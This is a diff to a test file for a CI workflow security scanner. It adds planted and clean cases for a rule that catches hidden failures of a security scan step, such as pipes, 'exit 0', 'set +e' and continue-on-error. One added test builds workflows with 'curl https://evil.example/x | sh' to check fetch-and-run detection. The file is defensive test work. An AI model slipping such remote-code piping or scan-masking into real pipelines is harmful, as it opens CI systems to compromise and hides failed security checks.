@@ -165,6 +165,25 @@ PLANTED = {
         ),
     ),
 }
+PLANTED |= {
+    f"007-{name}": ("007", "medium", FLOW.replace("run: pytest", text))
+    for name, text in {
+        "pipe": "run: python security_scan.py | tee scan.txt",
+        "exit": "run: python security_scan.py; exit 0",
+        "part": "run: python security_scan.py --only permissions",
+        "never": "if: false\n        run: python security_scan.py",
+        "on": "run: |\n          set +e\n"
+        "          python security_scan.py\n          echo done",
+    }.items()
+} | {
+    "007-job": (
+        "007",
+        "medium",
+        FLOW.replace("run: pytest", "run: python security_scan.py").replace(
+            "    runs-on:", "    continue-on-error: true\n    runs-on:"
+        ),
+    ),
+}
 SECRET = "${X secrets.DEPLOY }}".replace("X", "{")
 KEY = f"env: {{KEY: '{SECRET}'}}\n        run: "
 PLANTED |= {
@@ -222,6 +241,20 @@ CLEAN = {
         "        run: |\n          python security_scan.py || code=$?\n"
         "          python security_scan.py --format json || true\n",
     ),
+    "007-pipefail": FLOW.replace(
+        "run: pytest",
+        "run: |\n          set -o pipefail\n"
+        "          python security_scan.py | tee scan.txt",
+    ),
+    "007-bash": FLOW.replace(
+        "run: pytest",
+        "shell: bash\n        run: python security_scan.py | tee scan.txt",
+    ),
+    "007-told": FLOW.replace(
+        "run: pytest",
+        "run: |\n          set +e\n          python security_scan.py\n"
+        "          exit $?",
+    ),
     "007-other": FLOW.replace("run: pytest", "run: rm a.log || true"),
     "005-reason": FLOW.replace(
         "# v7.0.1", "# zizmor: ignore[artipacked] the next step pushes"
@@ -251,6 +284,17 @@ def test_every_rule_has_a_planted_and_a_clean_case():
         "MCP-WF-*",
         *(f"MCP-WF-{number}" for number in ours),
     }
+
+
+def test_another_script_is_another_finding(check):
+    fetched = [
+        FLOW.replace("run: pytest", f"run: curl https://{host}/x | sh")
+        for host in ("good.example", "evil.example")
+    ]
+    found = [check({CI: text}).findings[0] for text in fetched]
+
+    assert {f.id for f in found} == {"MCP-WF-003"}
+    assert found[0].fingerprint != found[1].fingerprint
 
 
 def test_an_action_is_judged_like_a_workflow(found):
@@ -284,7 +328,7 @@ def test_missing_permissions_are_one_finding_for_the_file(found):
     ("comment", "expected"),
     [
         ("# zizmor: ignore[unpinned-uses] tags of our own", []),
-        ("# zizmor: ignore[unpinned-uses]", [("005", "low")]),
+        ("# zizmor: ignore[unpinned-uses]", [("001", "high"), ("005", "low")]),
         ("# v7", [("001", "high")]),
     ],
 )
